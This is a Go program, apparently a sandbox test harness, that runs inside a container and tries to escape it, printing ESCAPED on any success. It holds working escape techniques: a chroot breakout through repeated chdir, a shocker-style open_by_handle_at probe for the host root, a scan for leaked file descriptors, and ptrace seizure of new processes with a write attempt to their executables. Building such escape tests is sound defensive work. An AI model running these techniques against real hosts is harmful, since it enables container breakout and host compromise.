// Attack runs inside a container and tries what a container must not do. It
// prints ESCAPED and what it got, or the error that stopped it.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "call":
		call(os.Args[2:])
	case "seize":
		seize()
	case "fds":
		fds()
	case "chroot":
		chroot(os.Args[2])
	case "handle":
		handle()
	}
}

// call makes a raw system call: its number and arguments, numbers or strings.
func call(args []string) {
	var a [7]uintptr
	for i, s := range args {
		if n, err := strconv.ParseUint(s, 0, 64); err == nil {
			a[i] = uintptr(n)
		} else {
			b := append([]byte(s), make([]byte, 4096)...)
			a[i] = uintptr(unsafe.Pointer(&b[0]))
			defer runtime.KeepAlive(b)
		}
	}
	r, _, errno := unix.Syscall6(a[0], a[1], a[2], a[3], a[4], a[5], a[6])
	if errno == 0 {
		fmt.Fprintln(os.Stdout, "ESCAPED: the call returned", r)
		return
	}
	fmt.Fprintln(os.Stdout, unix.ErrnoName(errno))
}

// own reports a file that Go's runtime opened by itself: it reads the limit of
// processors.
func own(target string) bool {
	return strings.HasPrefix(target, "anon_inode:[event") || strings.Contains(target, "/proc/") ||
		strings.HasPrefix(filepath.Base(target), "cpu.")
}

// fds lists open files that a process should not have been given.
func fds() {
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		fmt.Fprintln(os.Stdout, err)
		return
	}
	for _, e := range entries {
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		n, _ := strconv.Atoi(e.Name())
		if err == nil && n > 2 && !own(target) {
			fmt.Fprintln(os.Stdout, "ESCAPED: descriptor", n, target)
		}
	}
}

// chroot is the classic escape of a chroot by a root that keeps a directory
// above it.
func chroot(canary string) {
	_ = os.Mkdir("/tmp/jail", 0o755)
	if err := unix.Chroot("/tmp/jail"); err != nil {
		fmt.Fprintln(os.Stdout, err)
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	_ = unix.Chroot(".")
	if _, err := os.Stat(canary); err == nil {
		fmt.Fprintln(os.Stdout, "ESCAPED: the host's", canary)
	}
}

// handle opens the host's root by file handle, as shocker did.
func handle() {
	for ino := uint64(1); ino < 4; ino++ {
		b := make([]byte, 8)
		*(*uint64)(unsafe.Pointer(&b[0])) = ino
		fd, err := unix.OpenByHandleAt(unix.AT_FDCWD, unix.NewFileHandle(1, b), unix.O_RDONLY)
		if err == nil {
			fmt.Fprintln(os.Stdout, "ESCAPED: a handle of inode", ino, fd)
		}
	}
}

// seize takes hold of every process that appears, from its first instruction
// that is visible here, and looks what it could do with it.
func seize() {
	runtime.LockOSThread()
	seen := map[int]bool{1: true, os.Getpid(): true}
	fmt.Fprintln(os.Stdout, "ready")
	caught := 0
	for end := time.Now().Add(10 * time.Minute); time.Now().Before(end); {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if seen[pid] {
				continue
			}
			seen[pid] = true
			if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, 0x4206, uintptr(pid), 0, 0, 0, 0); errno != 0 {
				continue
			}
			caught++
			_, _, _ = unix.Syscall6(unix.SYS_PTRACE, 0x4207, uintptr(pid), 0, 0, 0, 0) // PTRACE_INTERRUPT
			_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
			look(pid)
			_, _, _ = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, 0, 0, 0)
		}
	}
	fmt.Fprintln(os.Stdout, "seized", caught)
}

func look(pid int) {
	dir := "/proc/" + strconv.Itoa(pid)
	if b, err := os.ReadFile(dir + "/status"); err == nil {
		for line := range strings.Lines(string(b)) {
			if v, ok := strings.CutPrefix(line, "CapPrm:"); ok {
				bits, _ := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
				if bits&(1<<unix.CAP_SYS_ADMIN|1<<unix.CAP_SYS_MODULE) != 0 {
					fmt.Fprintln(os.Stdout, "ESCAPED: capabilities", strings.TrimSpace(v))
				}
			}
		}
	}
	links, _ := filepath.Glob(dir + "/fd/*")
	for _, l := range links {
		target, _ := os.Readlink(l)
		n, _ := strconv.Atoi(filepath.Base(l))
		if n > 2 && !own(target) && !strings.HasPrefix(target, "pipe:") &&
			!strings.HasPrefix(target, "/memfd:cove-init") && target != "" {
			fmt.Fprintln(os.Stdout, "ESCAPED: descriptor", n, target)
		}
	}
	if root, _ := os.Readlink(dir + "/root"); root != "" && root != "/" {
		fmt.Fprintln(os.Stdout, "ESCAPED: root", root)
	}
	if f, err := os.OpenFile(dir+"/exe", os.O_WRONLY, 0); err == nil {
		if _, err := f.Write([]byte("x")); err == nil {
			fmt.Fprintln(os.Stdout, "ESCAPED: wrote to", f.Name())
		}
		f.Close()
	}
}
